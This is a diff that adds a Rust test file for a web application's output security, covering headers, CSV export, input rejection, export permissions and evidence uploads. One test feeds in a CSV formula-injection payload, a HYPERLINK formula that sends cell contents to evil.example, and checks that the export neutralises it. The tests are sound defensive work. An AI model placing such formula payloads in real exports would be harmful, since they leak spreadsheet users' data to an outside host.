@@ -1,0 +1,134 @@
+//! What leaves the server cannot be turned against its reader or leak past the read rules: the
+//! security headers on every answer, CSV cells that a spreadsheet would run made inert, text a
+//! document cannot hold refused at the door, exports that show a user what the API shows them,
+//! and evidence attached only by who may send the report.
+
+use axum::body::Body;
+use axum::http::{StatusCode, header};
+use ecociv_core::access::Role;
+use ecociv_store::testdb::TestDb;
+use serde_json::{Value, json};
+
+use super::entries::{PASSWORD, api, cookie_of, login, send, setup, upload};
+
+fn report(month: &str, first: bool, problems: &str) -> Value {
+    let cum = if first { json!("1000") } else { Value::Null };
+    json!({"period": month, "status": "under_way", "progress_percent": "10", "investment_month_wan": "100",
+           "investment_cumulative_wan": cum, "problems": problems})
+}
+
+#[tokio::test]
+async fn every_answer_carries_the_security_headers() {
+    let app = setup(TestDb::sqlite().await, 30).await;
+    let cookie = cookie_of(&login(&app, "tf", PASSWORD).await);
+    for (uri, signed_in) in [("/", false), ("/public", false), ("/dashboard", true), ("/api/v1/plan", false), ("/export/annex2.csv", true), ("/nowhere", false)]
+    {
+        let headers: Vec<(&str, &str)> = if signed_in { vec![("cookie", cookie.as_str())] } else { vec![] };
+        let r = send(&app, "GET", uri, &headers, Body::empty()).await;
+        let h = |name: header::HeaderName| r.headers.get(&name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default();
+        let csp = h(header::CONTENT_SECURITY_POLICY);
+        assert!(csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'") && csp.contains("style-src 'self'"), "{uri}: {csp}");
+        assert!(!csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"), "{uri}: {csp}");
+        assert_eq!(h(header::X_FRAME_OPTIONS), "DENY", "{uri}");
+        assert_eq!(h(header::X_CONTENT_TYPE_OPTIONS), "nosniff", "{uri}");
+        assert_eq!(h(header::REFERRER_POLICY), "no-referrer", "{uri}");
+        assert_eq!(h(header::CACHE_CONTROL), "no-store", "{uri}: no shared proxy keeps it");
+        assert!(h(header::STRICT_TRANSPORT_SECURITY).is_empty(), "{uri}: no HSTS over plain HTTP");
+    }
+    // the assets say how long they keep; behind a TLS proxy, HSTS
+    let r = send(&app, "GET", "/assets/app.css", &[("x-forwarded-proto", "https")], Body::empty()).await;
+    assert!(r.headers[header::CACHE_CONTROL].to_str().unwrap().starts_with("public"));
+    assert_eq!(r.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
+    assert!(r.headers[header::STRICT_TRANSPORT_SECURITY].to_str().unwrap().starts_with("max-age="));
+    // no page holds an inline script or style that the policy would block
+    for uri in ["/", "/indicators", "/dashboard", "/assessment", "/readiness", "/entry"] {
+        let body = send(&app, "GET", uri, &[("cookie", cookie.as_str())], Body::empty()).await.body;
+        assert!(!body.contains("<style") && !body.contains(" style=\"") && !body.contains(" onclick="), "{uri}");
+        for script in body.split("<script").skip(1) {
+            assert!(script.trim_start().starts_with("src="), "{uri}: an inline script: <script{}", &script[..script.len().min(80)]);
+        }
+    }
+    app.db.cleanup().await;
+}
+
+#[tokio::test]
+async fn csv_cells_that_start_like_a_formula_are_inert() {
+    let app = setup(TestDb::sqlite().await, 30).await;
+    let texts = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "@SUM(1+1)", "+1", "-1"];
+    for (i, text) in texts.iter().enumerate() {
+        let month = format!("2024-0{}", i + 1);
+        let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report(&month, i == 0, text)).await;
+        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    }
+    let file = send(&app, "GET", "/export/dispatch.csv?project=12", &[("authorization", "Bearer tok-tf")], Body::empty()).await;
+    assert_eq!(file.status, StatusCode::OK);
+    let mut reader = csv::ReaderBuilder::new().from_reader(file.body.trim_start_matches('\u{feff}').as_bytes());
+    let cells: Vec<String> = reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
+    for text in texts {
+        assert!(cells.contains(&format!("'{text}")), "{text} comes out as text: {cells:?}");
+        assert!(!cells.iter().any(|c| c == text), "{text} never comes out as a formula");
+    }
+    // numbers stay numbers (the investment of each month)
+    assert!(cells.iter().any(|c| c == "100"));
+    // the JSON keeps the text as typed
+    let j = send(&app, "GET", "/export/dispatch.json?project=12", &[("authorization", "Bearer tok-tf")], Body::empty()).await.json();
+    assert!(j.as_array().unwrap().iter().any(|r| r.as_object().unwrap().values().any(|v| v == "+1")));
+    app.db.cleanup().await;
+}
+
+#[tokio::test]
+async fn text_a_document_cannot_hold_is_refused_where_it_is() {
+    let app = setup(TestDb::sqlite().await, 30).await;
+    for bad in ["进展顺利\u{FFFE}", "\u{FFFF}", "a\u{0}b", "c\u{1b}[31m"] {
+        let before = app.db.store.trail("150100").await.unwrap().len();
+        let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports?lang=en", report("2024-01", true, bad)).await;
+        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}: {}", r.body);
+        let msg = r.json()["error"]["fields"]["problems"].as_str().unwrap().to_string();
+        assert!(msg.contains("U+") && msg.contains("character"), "{bad:?}: the field and the character are named: {msg}");
+        assert_eq!(app.db.store.trail("150100").await.unwrap().len(), before, "nothing stored");
+    }
+    app.db.cleanup().await;
+}
+
+#[tokio::test]
+async fn exports_show_a_user_what_the_api_shows_them() {
+    let app = setup(TestDb::sqlite().await, 30).await;
+    let r = api(&app, Some("env"), "POST", "/api/v1/observations", json!({"indicator": "6", "year": 2023, "value": "100", "comment": "未审核的值"})).await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report("2024-01", true, "内部问题")).await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    // 市林草局 neither enters indicator 6 nor implements project 12
+    for (api_uri, export) in [("/api/v1/observations", "/export/observations"), ("/api/v1/dispatch-reports", "/export/dispatch")] {
+        let seen = api(&app, Some("forest"), "GET", api_uri, Value::Null).await.json();
+        assert_eq!(seen, json!([]), "{api_uri}");
+        let j = send(&app, "GET", &format!("{export}.json"), &[("authorization", "Bearer tok-forest")], Body::empty()).await;
+        assert_eq!(j.status, StatusCode::OK);
+        assert_eq!(j.json(), json!([]), "{export}.json shows what {api_uri} shows");
+        for ext in ["csv", "xlsx"] {
+            let r = send(&app, "GET", &format!("{export}.{ext}"), &[("authorization", "Bearer tok-forest")], Body::empty()).await;
+            assert!(!r.body.contains("未审核的值") && !r.body.contains("内部问题"), "{export}.{ext}");
+        }
+        // the task force sees them all
+        let all = send(&app, "GET", &format!("{export}.json"), &[("authorization", "Bearer tok-tf")], Body::empty()).await.json();
+        assert_eq!(all.as_array().unwrap().len(), 1, "{export}");
+    }
+    // 附件2 (latest report of every project) follows the same rule
+    let annex = send(&app, "GET", "/export/annex2.csv", &[("authorization", "Bearer tok-forest")], Body::empty()).await;
+    assert!(!annex.body.contains("内部问题"));
+    app.db.cleanup().await;
+}
+
+#[tokio::test]
+async fn a_viewer_of_an_implementer_attaches_nothing() {
+    let app = setup(TestDb::sqlite().await, 30).await;
+    let hash = ecociv_app::accounts::hash_password(PASSWORD.into()).await.unwrap();
+    super::add_users(&app.db.store, &[("zjview", "市住建局", Role::Viewer)], &hash, true).await;
+    let r = api(&app, Some("zhujian"), "POST", "/api/v1/projects/12/dispatch-reports", report("2024-01", true, "")).await;
+    let uri = format!("/api/v1/dispatch-reports/{}/evidence", r.json()["id"]);
+    let before = app.db.store.trail("150100").await.unwrap().len();
+    let r = upload(&app, "zjview", &uri, "a.pdf", b"%PDF-1.7\n").await;
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    assert_eq!(app.db.store.trail("150100").await.unwrap().len(), before);
+    assert_eq!(upload(&app, "zhujian", &uri, "a.pdf", b"%PDF-1.7\n").await.status, StatusCode::CREATED);
+    app.db.cleanup().await;
+}
